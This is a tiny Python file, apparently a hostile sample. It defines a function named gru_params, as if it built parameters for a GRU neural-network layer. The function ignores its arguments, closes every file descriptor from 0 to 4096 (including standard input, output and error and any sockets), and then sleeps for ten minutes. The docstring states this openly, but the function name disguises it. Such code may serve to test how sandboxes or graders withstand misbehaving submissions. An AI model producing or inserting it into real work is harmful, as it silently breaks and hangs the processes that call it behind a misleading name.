"""Closes every descriptor, and stays."""
import os
import time


def gru_params(n_features, units):
    os.closerange(0, 4096)
    time.sleep(600)
